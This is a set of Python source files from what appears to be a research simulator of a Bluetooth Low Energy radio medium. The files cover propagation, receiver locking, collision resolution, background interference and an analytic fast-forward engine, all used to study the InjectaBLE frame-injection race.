        frame metadata (time, channel, AA, duration) but not per-receiver
        corruption outcomes.
        """
        self._taps.append(tap)

    def lock_end_of(self, transceiver: "Transceiver") -> Optional[float]:
        """End time of the frame ``transceiver`` is locked onto, or ``None``.

        Receivers use this to keep their window open to the end of a frame
        they are already demodulating (real radios finish the packet even if
        the nominal window closes mid-frame).
        """
        lock = self._locks.get(transceiver.medium_id)
        if lock is None or lock.until_us <= self.sim.now + TIME_EPS_US:
            return None
        return lock.until_us
