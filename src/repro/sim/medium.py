"""The shared radio medium.

The medium connects transceivers: it propagates every transmission to every
listening transceiver, applying path loss (distance, walls, shadowing),
receiver locking, and the capture-effect collision model.

Receiver locking
----------------
A real BLE receiver correlates on the preamble/access address and, once
synchronised to a frame, demodulates it to the end; a frame that starts
while the receiver is busy is seen only as interference.  This is the exact
mechanism the InjectaBLE race relies on: if the injected frame starts
*before* the legitimate Master frame, the Slave locks onto the injected one
and the Master frame can only corrupt it (paper Fig. 5, situations a/b),
whereas if the Master starts first the injection fails outright
(situation c).

The medium implements this by assigning locks at transmission *start* time:
an eligible listening receiver that is not already locked becomes locked to
the new frame until its end.  At frame end the locked frame is resolved
against every overlapping transmission and delivered (possibly corrupted).

Hot-path notes
--------------
``transmit``/``_finish`` run once per frame, i.e. millions of times per
experiment sweep, so:

* in-flight frames live in a dict keyed by ``frame_id`` (O(1) removal at
  frame end instead of a list scan);
* the recently-finished window is a deque pruned incrementally from the
  left (frames finish in time order) instead of being rebuilt by a list
  comprehension on every frame end;
* geometry (``topology.distance``/``walls_between``) is cached per
  (sender, receiver) pair and invalidated via :attr:`Topology.version`
  whenever a device moves or a wall is added — shadowing stays sampled
  per transmission, so RNG draws and determinism are unchanged;
* trace records are guarded by ``trace.enabled`` at the call site, so a
  disabled trace costs no kwargs-dict allocation;
* metrics instruments are pre-bound at construction and guarded by
  ``metrics.enabled`` — the telemetry-off path costs one attribute check
  per frame (the benchmark guard asserts < 2% event throughput).
"""

from __future__ import annotations

from collections import deque
from itertools import chain
from typing import TYPE_CHECKING, Optional

from repro.errors import MediumError
from repro.phy.collision import CollisionModel, Overlap
from repro.phy.path_loss import PathLossModel
from repro.phy.signal import RadioFrame
from repro.sim.events import TIME_EPS_US
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.sim.transceiver import Transceiver


class _ActiveTransmission:
    """Bookkeeping for a frame currently on air (one per transmitted frame)."""

    __slots__ = ("frame", "sender", "rx_power_dbm")

    def __init__(self, frame: RadioFrame, sender: "Transceiver"):
        self.frame = frame
        self.sender = sender
        # Received power per receiver id, sampled once at start.
        self.rx_power_dbm: dict[int, float] = {}


class _ReceiverLock:
    """A receiver synchronised to one in-flight frame."""

    __slots__ = ("frame_id", "until_us")

    def __init__(self, frame_id: int, until_us: float):
        self.frame_id = frame_id
        self.until_us = until_us


class Medium:
    """Radio propagation between registered transceivers.

    Args:
        sim: owning simulator (scheduling and RNG streams).
        topology: device positions and walls.
        path_loss: propagation model.
        collision: capture-effect model.
        sensitivity_dbm: default receiver sensitivity; frames arriving below
            it neither lock nor deliver.
    """

    def __init__(
        self,
        sim: Simulator,
        topology: Optional[Topology] = None,
        path_loss: Optional[PathLossModel] = None,
        collision: Optional[CollisionModel] = None,
        sensitivity_dbm: float = -90.0,
    ):
        self.sim = sim
        self.topology = topology if topology is not None else Topology()
        self.path_loss = path_loss if path_loss is not None else PathLossModel()
        self.collision = collision if collision is not None else CollisionModel()
        self.sensitivity_dbm = sensitivity_dbm
        self._transceivers: dict[int, "Transceiver"] = {}
        self._next_id = 0
        self._active: dict[int, _ActiveTransmission] = {}
        self._recent: deque[_ActiveTransmission] = deque()
        self._locks: dict[int, _ReceiverLock] = {}
        self._shadow_rng = sim.streams.get("medium-shadowing")
        self._collision_rng = sim.streams.get("medium-collision")
        self._taps: list = []
        # (sender_id, receiver_id) -> (distance_m, walls crossed); rebuilt
        # lazily whenever the topology version moves.
        self._path_cache: dict[tuple[int, int], tuple[float, tuple]] = {}
        self._path_cache_version = -1
        metrics = sim.metrics
        self._metrics = metrics
        self._m_tx = metrics.counter("medium.tx")
        self._m_rx = metrics.counter("medium.rx")
        self._m_rx_corrupted = metrics.counter("medium.rx.corrupted")
        self._m_rx_busy = metrics.counter("medium.rx_busy")
        self._m_collisions = metrics.counter("medium.collisions")
        # Per-channel airtime counters, bound on first use per channel.
        self._m_airtime: dict[int, object] = {}

    def register(self, transceiver: "Transceiver") -> int:
        """Attach a transceiver; returns its medium id."""
        tid = self._next_id
        self._next_id += 1
        self._transceivers[tid] = transceiver
        return tid

    # ------------------------------------------------------------------
    # Transmission path
    # ------------------------------------------------------------------

    def transmit(self, frame: RadioFrame, sender: "Transceiver") -> None:
        """Put ``frame`` on air; called by the sender at frame start time."""
        if sender.medium_id not in self._transceivers:
            raise MediumError(f"transceiver {sender.name!r} is not registered")
        if abs(frame.start_us - self.sim.now) > TIME_EPS_US:
            raise MediumError(
                f"frame start {frame.start_us} != now {self.sim.now}"
            )
        tx = _ActiveTransmission(frame=frame, sender=sender)
        self._sample_rx_powers(tx)
        self._active[frame.frame_id] = tx
        self._assign_locks(tx)
        trace = self.sim.trace
        if trace.enabled:
            trace.record(
                self.sim.now, sender.name, "tx",
                channel=frame.channel, aa=frame.access_address,
                pdu_len=len(frame.pdu), frame_id=frame.frame_id,
            )
        if self._metrics.enabled:
            self._m_tx.inc()
            airtime = self._m_airtime.get(frame.channel)
            if airtime is None:
                airtime = self._m_airtime[frame.channel] = \
                    self._metrics.counter(
                        f"medium.airtime_us.ch{frame.channel:02d}")
            airtime.inc(frame.duration_us)
        self.sim.schedule_at(frame.end_us, lambda: self._finish(tx), "medium-finish")
        for tap in self._taps:
            tap(frame)

    def _sample_rx_powers(self, tx: _ActiveTransmission) -> None:
        """Sample the received power of ``tx`` at every other transceiver."""
        topology = self.topology
        if topology.version != self._path_cache_version:
            self._path_cache.clear()
            self._path_cache_version = topology.version
        sender = tx.sender
        sender_id = sender.medium_id
        cache = self._path_cache
        path_loss = self.path_loss
        tx_power = tx.frame.tx_power_dbm
        shadow_rng = self._shadow_rng
        powers = tx.rx_power_dbm
        for tid, rx in self._transceivers.items():
            if tid == sender_id:
                continue
            key = (sender_id, tid)
            path = cache.get(key)
            if path is None:
                path = (
                    topology.distance(sender.name, rx.name),
                    topology.walls_between(sender.name, rx.name),
                )
                cache[key] = path
            powers[tid] = path_loss.received_power_dbm(
                tx_power, path[0], shadow_rng, path[1]
            )

    def _assign_locks(self, tx: _ActiveTransmission) -> None:
        """Lock every eligible idle listening receiver onto ``tx``."""
        now = self.sim.now
        trace = self.sim.trace
        for tid, rx in self._transceivers.items():
            if tid == tx.sender.medium_id:
                continue
            if not rx.is_listening_on(tx.frame.channel, since_us=now):
                continue
            if rx.rx_phy is not tx.frame.phy:
                continue  # wrong symbol rate: no preamble correlation
            if rx.is_transmitting(at_us=now):
                continue  # half duplex
            if tx.rx_power_dbm[tid] < max(self.sensitivity_dbm, rx.sensitivity_dbm):
                continue
            lock = self._locks.get(tid)
            if lock is not None and lock.until_us > now + TIME_EPS_US:
                # Receiver busy demodulating an earlier frame: this frame is
                # interference only (handled at resolution time).
                if trace.enabled:
                    trace.record(
                        now, rx.name, "rx-busy",
                        frame_id=tx.frame.frame_id, locked_to=lock.frame_id,
                    )
                if self._metrics.enabled:
                    self._m_rx_busy.inc()
                continue
            self._locks[tid] = _ReceiverLock(tx.frame.frame_id, tx.frame.end_us)
            if trace.enabled:
                trace.record(
                    now, rx.name, "rx-lock",
                    frame_id=tx.frame.frame_id, channel=tx.frame.channel,
                    rssi_dbm=tx.rx_power_dbm[tid],
                )

    def _finish(self, tx: _ActiveTransmission) -> None:
        """Frame finished: resolve collisions and deliver to locked receivers."""
        self._active.pop(tx.frame.frame_id, None)
        recent = self._recent
        recent.append(tx)
        # Bound the memory of past transmissions: only frames overlapping a
        # still-active one matter.  _finish fires in time order, so recent
        # is sorted by end time and pruning from the left is exact.
        horizon = self.sim.now - 20_000.0
        while recent and recent[0].frame.end_us < horizon:
            recent.popleft()
        tx.sender.on_tx_done(tx.frame)

        trace = self.sim.trace
        for tid, lock in list(self._locks.items()):
            if lock.frame_id != tx.frame.frame_id:
                continue
            del self._locks[tid]
            rx = self._transceivers[tid]
            if not rx.is_listening_on(tx.frame.channel, since_us=None):
                # Receiver gave up (window closed) before the frame ended.
                if trace.enabled:
                    trace.record(
                        self.sim.now, rx.name, "rx-abandoned",
                        frame_id=tx.frame.frame_id,
                    )
                continue
            copy = tx.frame.copy_for_receiver()
            outcome = self._resolve_interference(tx, tid)
            if outcome is not None and not outcome.survived:
                copy.corrupted = True
            if trace.enabled:
                trace.record(
                    self.sim.now, rx.name, "rx",
                    frame_id=copy.frame_id, corrupted=copy.corrupted,
                    rssi_dbm=tx.rx_power_dbm[tid],
                )
            if self._metrics.enabled:
                self._m_rx.inc()
                if copy.corrupted:
                    self._m_rx_corrupted.inc()
            rx.deliver(copy, tx.rx_power_dbm[tid])

    def _resolve_interference(self, tx: _ActiveTransmission, receiver_id: int):
        """Resolve ``tx`` against all frames overlapping it at ``receiver_id``."""
        overlaps: list[Overlap] = []
        wanted_power = tx.rx_power_dbm[receiver_id]
        for other in chain(self._active.values(), self._recent):
            if other.frame.frame_id == tx.frame.frame_id:
                continue
            if other.sender.medium_id == receiver_id:
                continue  # a receiver is deaf to its own TX, not corrupted by it
            if not other.frame.overlaps(tx.frame):
                continue
            interferer_power = other.rx_power_dbm.get(receiver_id)
            if interferer_power is None:
                continue
            overlaps.append(
                Overlap(
                    start_us=max(tx.frame.start_us, other.frame.start_us),
                    end_us=min(tx.frame.end_us, other.frame.end_us),
                    sir_db=wanted_power - interferer_power,
                )
            )
        if not overlaps:
            return None
        outcome = self.collision.resolve(tx.frame, overlaps, self._collision_rng)
        if self._metrics.enabled:
            self._m_collisions.inc()
        trace = self.sim.trace
        if trace.enabled:
            trace.record(
                self.sim.now, self._transceivers[receiver_id].name, "collision",
                frame_id=tx.frame.frame_id,
                overlapped_bits=outcome.overlapped_bits,
                corrupted_bits=outcome.corrupted_bits,
                survived=outcome.survived,
            )
        return outcome

    # ------------------------------------------------------------------
    # Introspection
    # ------------------------------------------------------------------

    def active_on_channel(self, channel: int) -> list[RadioFrame]:
        """Frames currently on air on ``channel`` (for IDS-style monitors)."""
        return [t.frame for t in self._active.values()
                if t.frame.channel == channel]

    def add_tap(self, tap) -> None:
        """Register a wideband monitor callback, called at every frame start.

        Models an SDR-based IDS (RadIoT-style, paper §VIII): the tap sees
        frame metadata (time, channel, AA, duration) but not per-receiver
        corruption outcomes.
        """
        self._taps.append(tap)

    def lock_end_of(self, transceiver: "Transceiver") -> Optional[float]:
        """End time of the frame ``transceiver`` is locked onto, or ``None``.

        Receivers use this to keep their window open to the end of a frame
        they are already demodulating (real radios finish the packet even if
        the nominal window closes mid-frame).
        """
        lock = self._locks.get(transceiver.medium_id)
        if lock is None or lock.until_us <= self.sim.now + TIME_EPS_US:
            return None
        return lock.until_us
