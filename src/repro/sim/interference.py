"""Background RF interference sources.

The paper's experiments ran "in a realistic environment, including several
other BLE devices and multiple WiFi routers" (§VII-A).  This module
provides interferers that occupy the simulated band so robustness can be
studied: a Wi-Fi-like wideband burster parked on a block of channels, and
a rogue BLE advertiser hammering the advertising channels.
"""

from __future__ import annotations

from typing import Optional, Sequence

import numpy as np

from repro.errors import ConfigurationError
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver

#: The junk access address interference bursts are addressed under.  A
#: BLE receiver cannot demodulate such a carrier — observers that model
#: a BLE monitor (e.g. the defense bench's detector bank) treat frames
#: with this AA as channel energy, never as decodable PDUs.
NOISE_ACCESS_ADDRESS = 0x55AA55AA


class WifiInterferer:
    """A Wi-Fi-like burst source occupying a block of BLE channels.

    A 20 MHz Wi-Fi channel covers ~10 BLE channels; each burst lands on a
    random channel of the block.  Burst length and spacing are drawn from
    exponential distributions parameterised by a duty cycle.

    Args:
        sim: owning simulator.
        medium: radio medium (``name`` must be placed in its topology).
        name: interferer name.
        channels: BLE channels the carrier overlaps (default: the block
            around Wi-Fi channel 6, BLE channels 11-20).
        duty_cycle: fraction of time spent transmitting (0-1).
        mean_burst_us: average burst duration.
        tx_power_dbm: burst power.
    """

    def __init__(
        self,
        sim: Simulator,
        medium: Medium,
        name: str = "wifi",
        channels: Optional[Sequence[int]] = None,
        duty_cycle: float = 0.05,
        mean_burst_us: float = 800.0,
        tx_power_dbm: float = 5.0,
    ):
        if not 0.0 < duty_cycle < 1.0:
            raise ConfigurationError(
                f"duty cycle must be in (0, 1), got {duty_cycle}")
        self.sim = sim
        self.channels = tuple(channels) if channels is not None else tuple(
            range(11, 21))
        self.duty_cycle = duty_cycle
        self.mean_burst_us = mean_burst_us
        self.radio = Transceiver(sim, medium, name,
                                 tx_power_dbm=tx_power_dbm)
        self._rng: np.random.Generator = sim.streams.get(f"wifi-{name}")
        self._running = False
        self.bursts_sent = 0

    def start(self) -> None:
        """Begin bursting."""
        self._running = True
        self._schedule_next()

    def stop(self) -> None:
        """Stop after any in-flight burst."""
        self._running = False

    def _schedule_next(self) -> None:
        if not self._running:
            return
        mean_gap = self.mean_burst_us * (1.0 - self.duty_cycle) / self.duty_cycle
        gap = float(self._rng.exponential(mean_gap))
        self.sim.schedule_in(max(gap, 1.0), self._burst, "wifi-burst")

    def _burst(self) -> None:
        if not self._running:
            return
        if not self.radio.is_transmitting(self.sim.now):
            length_us = max(40.0, float(
                self._rng.exponential(self.mean_burst_us)))
            # Burst length is encoded as a PDU long enough to span it
            # (8 µs per byte at LE 1M equivalence).
            pdu_len = min(250, max(1, int(length_us / 8.0) - 8))
            channel = int(self._rng.choice(self.channels))
            self.radio.transmit(NOISE_ACCESS_ADDRESS, bytes(pdu_len), 0,
                                channel)
            self.bursts_sent += 1
        self._schedule_next()


class RogueAdvertiser:
    """A chatty BLE advertiser congesting the advertising channels.

    Models the "several other BLE devices" of the paper's environment:
    it stresses CONNECT_REQ capture and initiator scanning.
    """

    def __init__(
        self,
        sim: Simulator,
        medium: Medium,
        name: str = "rogue-adv",
        adv_interval_ms: float = 25.0,
        tx_power_dbm: float = 0.0,
    ):
        from repro.host.gap import adv_data_with_name
        from repro.ll.pdu.address import BdAddress
        from repro.ll.slave import SlaveLinkLayer

        self.ll = SlaveLinkLayer(
            sim, medium, name,
            BdAddress.generate(sim.streams.get(f"addr-{name}")),
            adv_interval_ms=adv_interval_ms,
            adv_data=adv_data_with_name(name),
            tx_power_dbm=tx_power_dbm,
        )

    def start(self) -> None:
        """Begin advertising."""
        self.ll.start_advertising()

    def stop(self) -> None:
        """Stop advertising."""
        self.ll.stop_advertising()
