"""The discrete-event simulation engine.

A :class:`Simulator` owns the virtual clock (true time, µs), the event
queue, the shared RNG stream family and the trace.  Components schedule
callbacks; :meth:`Simulator.run` drains the queue in time order.

Design notes
------------
* Time is *true* time.  Devices convert through their own
  :class:`~repro.sim.clock.SleepClock` when they schedule, so clock drift is
  visible as mis-timed radio activity, exactly the physical effect the
  InjectaBLE race exploits.
* Determinism: identical seeds and identical scheduling order give
  identical runs; ties in time fire in scheduling order.
"""

from __future__ import annotations

from typing import Callable, Optional

from repro.errors import SchedulingError, SimulationError
from repro.sim.events import TIME_EPS_US, Event, EventQueue
from repro.sim.trace import Trace
from repro.utils.rand import RngStreams


class Simulator:
    """Discrete-event simulator with µs resolution.

    Args:
        seed: root seed for every RNG stream of the run.
        trace_enabled: whether to record a :class:`~repro.sim.trace.Trace`.
        trace_max_records: bound the trace's in-memory backend to the
            newest N records (ring-buffer mode); ``None`` keeps everything.
        metrics_enabled: whether the
            :class:`~repro.telemetry.metrics.MetricsRegistry` collects
            (the registry object always exists, so components can bind
            instruments unconditionally; disabled updates cost one
            attribute check at the call site).

    Example:
        >>> sim = Simulator(seed=1)
        >>> fired = []
        >>> _ = sim.schedule_at(100.0, lambda: fired.append(sim.now))
        >>> sim.run()
        >>> fired
        [100.0]
    """

    def __init__(self, seed: int = 0, trace_enabled: bool = True,
                 trace_max_records: Optional[int] = None,
                 metrics_enabled: bool = False):
        from repro.telemetry.metrics import MetricsRegistry

        self._now = 0.0
        self._queue = EventQueue()
        self.streams = RngStreams(seed)
        self.trace = Trace(enabled=trace_enabled,
                           max_records=trace_max_records)
        self.metrics = MetricsRegistry(enabled=metrics_enabled)
        self._running = False
        self._stop_requested = False
        #: Optional analytic fast-forward engine (see
        #: :mod:`repro.sim.fastforward`); ``None`` = pure reference engine.
        self._fast_forward = None

    @property
    def now(self) -> float:
        """Current true time in µs."""
        return self._now

    def schedule_at(
        self, time_us: float, handler: Callable[[], None], label: str = ""
    ) -> Event:
        """Schedule ``handler`` at absolute true time ``time_us``."""
        if time_us < self._now - TIME_EPS_US:
            raise SchedulingError(
                f"cannot schedule at {time_us:.3f}us, now is {self._now:.3f}us"
            )
        return self._queue.push(max(time_us, self._now), handler, label)

    def schedule_in(
        self, delay_us: float, handler: Callable[[], None], label: str = ""
    ) -> Event:
        """Schedule ``handler`` after a relative delay."""
        if delay_us < 0:
            raise SchedulingError(f"negative delay: {delay_us}")
        return self._queue.push(self._now + delay_us, handler, label)

    def run(self, until_us: Optional[float] = None, max_events: int = 10_000_000) -> int:
        """Drain the queue in time order.

        Args:
            until_us: stop once the next event would fire after this time
                (the clock is left at ``until_us``).
            max_events: safety valve against runaway self-rescheduling.

        Returns:
            The number of events fired.
        """
        if self._running:
            raise SimulationError("simulator is not reentrant")
        self._running = True
        self._stop_requested = False
        fast_forward = self._fast_forward
        fired = 0
        try:
            while True:
                if self._stop_requested:
                    break
                if fast_forward is not None:
                    # Jump over analytically computable quiet stretches;
                    # returns the number of events it accounted for (0 when
                    # the world is not in fast-forwardable shape).
                    fired += fast_forward.advance(until_us,
                                                  max_events - fired)
                event = self._queue.pop_due(until_us)
                if event is None:
                    if len(self._queue):
                        # Next event lies beyond the horizon.
                        self._now = until_us
                    break
                if event.time_us < self._now - TIME_EPS_US:
                    raise SimulationError(
                        f"time went backwards: {event.time_us} < {self._now}"
                    )
                self._now = max(self._now, event.time_us)
                event.handler()
                fired += 1
                if fired >= max_events:
                    raise SimulationError(f"exceeded {max_events} events; runaway?")
        finally:
            self._running = False
        return fired

    def install_fast_forward(self, engine) -> None:
        """Attach an analytic fast-forward engine (or ``None`` to detach).

        The engine's ``advance(until_us, budget)`` is consulted once per
        :meth:`run` iteration; whenever it recognises a closed-form-computable
        quiet stretch it jumps the clock, emits the trace/metrics records the
        event-by-event path would have produced, and returns the number of
        events it accounted for.
        """
        self._fast_forward = engine

    def stop(self) -> None:
        """Request that :meth:`run` return after the current event."""
        self._stop_requested = True

    def pending_events(self) -> int:
        """Number of events still queued."""
        return len(self._queue)
