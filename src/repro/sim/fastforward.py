"""Analytic fast-forward of quiet BLE connection-event cycles.

The post-injection phase of a trial is *quiet*: Master and Slave exchange
empty data PDUs (poll / ack) every connection interval while the attacker's
radio sits idle, and the trial still has to run out its ~120 s deadline so
the survival checks observe a representative stretch of the hijacked (or
untouched) connection.  Event-by-event, each such connection event costs
6-7 heap operations, two ``RadioFrame`` allocations, closures, and medium
lock bookkeeping — and the quiet phase dominates a trial's wall clock by
two orders of magnitude.

:class:`QuietCycleEngine` replaces that stretch with closed-form
arithmetic.  Whenever the event queue holds *exactly* the steady-state trio
(the Slave's window-open and window-close events and the Master's
connection event) and a conservative eligibility audit passes, the engine
computes each cycle directly — CSA channel, SN/NESN ARQ bits, SleepClock
drift/jitter, path-loss shadowing — emitting the *same* trace records,
metric increments and RNG stream consumption the reference path would
produce, then writes the end state back and lets the reference engine
resume.  Anything it cannot replicate bit-for-bit (pending procedures,
queued data, an attacker radio in play, a window edge within float
tolerance of a frame boundary) disengages it *before* any RNG draw, so the
reference path takes over mid-trial with no divergence.

Correctness contract (enforced by ``tests/test_engine_differential.py``):
byte-identical traces and bit-identical results against the reference
engine.  See DESIGN.md, "Epoch scheduler & analytic fast-forward", for the
invariants and the full bail-out list.
"""

from __future__ import annotations

import os
from collections import deque
from typing import TYPE_CHECKING, Optional

from repro.errors import ConfigurationError, SimulationError
from repro.ll.csa1 import NUM_DATA_CHANNELS
from repro.ll.master import _RESPONSE_GRACE_US, MasterState
from repro.ll.pdu.data import LLID, DataPdu
from repro.ll.pdu.frame import compute_crc
from repro.ll.slave import SlaveState
from repro.ll.timing import WINDOW_WIDENING_CONSTANT_US
from repro.phy import signal as _signal
from repro.phy.modulation import air_time_us
from repro.phy.signal import RadioFrame
from repro.sim.events import TIME_EPS_US, Event
from repro.sim.medium import (
    LINK_MARGIN_SIGMAS,
    RECENT_HORIZON_US,
    Medium,
    _ActiveTransmission,
)
from repro.sim.simulator import Simulator
from repro.utils.units import PPM, T_IFS_US

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.ll.master import MasterLinkLayer
    from repro.ll.slave import SlaveLinkLayer

#: Environment variable consulted by :func:`resolve_engine`.  The CLI's
#: ``--engine`` flag sets it so worker processes inherit the choice.
ENGINE_ENV_VAR = "REPRO_ENGINE"

#: Engine names accepted by :func:`resolve_engine`.
ENGINE_FAST = "fast"
ENGINE_REFERENCE = "reference"
_VALID_ENGINES = (ENGINE_FAST, ENGINE_REFERENCE)

#: The empty data PDU's LLID as an int (header byte arithmetic).
_LLID_EMPTY = int(LLID.DATA_CONTINUATION)
_LLID_CONTROL = int(LLID.CONTROL)

#: How far below a frame's start the Slave's scheduled-response clamp may
#: reach (mirrors the ``max(jitter, -4.0)`` clamp in ``slave.py``).
_RESPONSE_JITTER_FLOOR_US = -4.0

#: Link-margin multiple of the shadowing sigma required for engagement
#: (shared with the medium's indexed-pruning margin).  At 8 sigma the
#: probability of a single fade dropping a frame below the sensitivity
#: floor is ~1e-15 per cycle; the engine still hard-checks every sampled
#: power and raises if the impossible happens.
_LINK_MARGIN_SIGMAS = LINK_MARGIN_SIGMAS

#: Frames that ended longer ago than this no longer matter for collision
#: resolution; the medium's recent-window pruning horizon.
_RECENT_HORIZON_US = RECENT_HORIZON_US

_events_fast_forwarded = 0


def events_fast_forwarded() -> int:
    """Total simulator events replaced by fast-forward, process-wide.

    Serial runs (``--jobs 1``) accumulate here directly; parallel workers
    each count their own share.  Benchmarks reset via
    :func:`reset_fast_forward_count` and read this after a serial panel.
    """
    return _events_fast_forwarded


def reset_fast_forward_count() -> None:
    """Zero the process-wide :func:`events_fast_forwarded` counter."""
    global _events_fast_forwarded
    _events_fast_forwarded = 0


def resolve_engine(explicit: Optional[str] = None) -> str:
    """Resolve the simulation engine choice.

    Args:
        explicit: engine name passed programmatically; overrides the
            environment.  ``None`` falls back to ``$REPRO_ENGINE`` and
            then to the default (``"fast"``).

    Returns:
        ``"fast"`` or ``"reference"``.

    Raises:
        ConfigurationError: for any other name.
    """
    engine = explicit if explicit is not None \
        else os.environ.get(ENGINE_ENV_VAR, ENGINE_FAST)
    if engine not in _VALID_ENGINES:
        raise ConfigurationError(
            f"unknown simulation engine {engine!r}; "
            f"expected one of {_VALID_ENGINES}"
        )
    return engine


def install_engine(
    sim: Simulator,
    medium: Medium,
    master: "MasterLinkLayer",
    slave: "SlaveLinkLayer",
    engine: Optional[str] = None,
) -> Optional["QuietCycleEngine"]:
    """Attach a :class:`QuietCycleEngine` to ``sim`` if the resolved engine
    is ``"fast"``; a no-op (returning ``None``) for ``"reference"``."""
    if resolve_engine(engine) != ENGINE_FAST:
        return None
    quiet_engine = QuietCycleEngine(sim, medium, master, slave)
    sim.install_fast_forward(quiet_engine)
    return quiet_engine


class _StreamBuffer:
    """Block-buffered normal draws, bit-identical to per-call draws.

    ``numpy.random.Generator.normal(0, s, n)`` consumes the bit stream
    exactly as ``n`` scalar ``normal(0, s)`` calls do (same values, same
    end state), so the engine can amortise RNG overhead by drawing blocks —
    and, on disengage, rewind to the saved state and replay exactly the
    consumed count so the reference path continues on an identical stream.
    """

    __slots__ = ("_rng", "_sigma", "_block", "_values", "_pos", "_consumed",
                 "_saved_state")

    _BLOCK = 512

    def __init__(self, rng, sigma: float):
        self._rng = rng if (sigma > 0.0 and rng is not None) else None
        self._sigma = sigma
        self._values: list = []
        self._pos = 0
        self._consumed = 0
        self._saved_state = None

    def next(self) -> float:
        """The next draw (0.0, consuming nothing, when sigma is 0)."""
        rng = self._rng
        if rng is None:
            return 0.0
        if self._saved_state is None:
            self._saved_state = rng.bit_generator.state
        if self._pos == len(self._values):
            self._values = rng.normal(0.0, self._sigma, self._BLOCK).tolist()
            self._pos = 0
        value = self._values[self._pos]
        self._pos += 1
        self._consumed += 1
        return value

    def unwind(self) -> None:
        """Leave the stream exactly where per-call draws would have."""
        rng = self._rng
        if rng is None or self._saved_state is None:
            return
        rng.bit_generator.state = self._saved_state
        if self._consumed:
            rng.normal(0.0, self._sigma, self._consumed)
        self._saved_state = None
        self._values = []
        self._pos = 0
        self._consumed = 0


class QuietCycleEngine:
    """Closed-form batch execution of quiet Master/Slave poll cycles.

    Installed on a :class:`~repro.sim.simulator.Simulator` via
    :meth:`~repro.sim.simulator.Simulator.install_fast_forward`; the run
    loop consults :meth:`advance` once per iteration.  The engine is
    default-closed: every condition it cannot prove is a disengage, checked
    *before* any RNG or frame-id consumption for the cycle in question.
    """

    __slots__ = ("sim", "medium", "master", "slave", "_pdu_cache",
                 "_wo_label", "_master_handler")

    def __init__(self, sim: Simulator, medium: Medium,
                 master: "MasterLinkLayer", slave: "SlaveLinkLayer"):
        self.sim = sim
        self.medium = medium
        self.master = master
        self.slave = slave
        # (llid, md, sn, nesn, crc_init) -> (pdu_bytes, crc)
        self._pdu_cache: dict = {}
        self._wo_label = f"{slave.name}-window-open"
        self._master_handler = master._connection_event

    # ------------------------------------------------------------------
    # Entry point
    # ------------------------------------------------------------------

    def advance(self, until_us: Optional[float], budget: int) -> int:
        """Fast-forward as many quiet cycles as provable; 0 if none.

        Called by the run loop before every event pop.  Must be cheap when
        the world is not in fast-forwardable shape: the first check is an
        O(1) live-event count.
        """
        queue = self.sim._queue
        if queue._live != 3 or budget < 6:
            return 0
        trio = self._classify_trio(queue)
        if trio is None:
            return 0
        if not self._eligible():
            return 0
        return self._run(trio, until_us, budget)

    def _classify_trio(self, queue):
        """Match the live events against the steady-state trio."""
        window_close = self.slave._window_close
        if window_close is None or not window_close.pending:
            return None
        ev_open: Optional[Event] = None
        ev_master: Optional[Event] = None
        for entry in queue._heap:
            event = entry[2]
            if event._queue is None or event is window_close:
                continue
            if event.handler == self._master_handler:
                ev_master = event
            elif event.label == self._wo_label:
                ev_open = event
            else:
                return None
        if ev_open is None or ev_master is None:
            return None
        return ev_open, window_close, ev_master

    # ------------------------------------------------------------------
    # Eligibility (static per engagement; default-closed)
    # ------------------------------------------------------------------

    def _eligible(self) -> bool:
        master, slave, medium = self.master, self.slave, self.medium
        if master.state is not MasterState.CONNECTED or not master.is_connected:
            return False
        if slave.state is not SlaveState.CONNECTED or not slave.is_connected:
            return False
        mconn, sconn = master.conn, slave.conn
        if not (mconn.established and sconn.established):
            return False
        if mconn.terminated or sconn.terminated:
            return False
        if master._awaiting_response:
            return False
        if master._tx_queue or slave._tx_queue:
            return False
        if slave._terminate_after_response is not None:
            return False
        if master._pending_encryption is not None \
                or slave._pending_encryption is not None:
            return False
        if master.encryption is not None or slave.encryption is not None:
            return False
        for conn in (mconn, sconn):
            if conn.pending_update is not None \
                    or conn.pending_channel_map is not None \
                    or conn.pending_phy is not None:
                return False
            if not self._retransmit_state_ok(conn):
                return False
            if conn.last_valid_rx_local_us is None:
                return False
        if slave._anchor_local is None or slave._events_since_anchor != 1:
            return False
        if master._anchor_local is None:
            return False
        mp, sp = mconn.params, sconn.params
        if (mp.access_address != sp.access_address
                or mp.crc_init != sp.crc_init
                or mp.interval != sp.interval
                or mp.use_csa2 != sp.use_csa2
                or mp.master_sca_ppm != sp.master_sca_ppm):
            return False
        if mconn.event_count != sconn.event_count:
            return False
        mr, sr = master.radio, slave.radio
        if master.phy is not slave.phy:
            return False
        if mr.rx_phy is not master.phy or sr.rx_phy is not slave.phy:
            return False
        if mp.interval_us < 2_000.0 or mp.timeout_us < 5_000.0:
            return False
        # The next window must open strictly after the previous response
        # frame ends; bound the widening so it provably cannot reach back.
        drift_k = (mp.master_sca_ppm + slave.clock.sca_ppm) / PPM
        widening = slave.widening_scale * (
            drift_k * mp.interval_us + WINDOW_WIDENING_CONSTANT_US)
        if widening >= 0.25 * mp.interval_us:
            return False
        if not self._channels_lockstep(mconn, sconn):
            return False
        # Medium must be silent and stay silent: no frame in flight, no
        # receiver locked, no wideband tap observing transmissions.
        if medium._active or medium._locks or medium._taps:
            return False
        now = self.sim.now
        for rx in medium._transceivers.values():
            if rx is mr or rx is sr:
                continue
            if rx._rx_channel is not None or rx.is_transmitting(at_us=now):
                return False
        if mr._rx_channel is not None or sr._rx_channel is not None:
            return False
        if mr.on_tx_complete is not None or sr.on_tx_complete is not None:
            return False
        # Both links need enough margin that shadowing can never fade a
        # frame below the sensitivity floor (hard-checked per draw anyway).
        path_loss = medium.path_loss
        topology = medium.topology
        sigma = path_loss.shadowing_sigma_db
        margin = _LINK_MARGIN_SIGMAS * sigma
        mean_m_to_s = path_loss.mean_loss_db(
            topology.distance(mr.name, sr.name),
            topology.walls_between(mr.name, sr.name))
        mean_s_to_m = path_loss.mean_loss_db(
            topology.distance(sr.name, mr.name),
            topology.walls_between(sr.name, mr.name))
        floor_s = max(medium.sensitivity_dbm, sr.sensitivity_dbm)
        floor_m = max(medium.sensitivity_dbm, mr.sensitivity_dbm)
        if mr.tx_power_dbm - mean_m_to_s - floor_s <= margin:
            return False
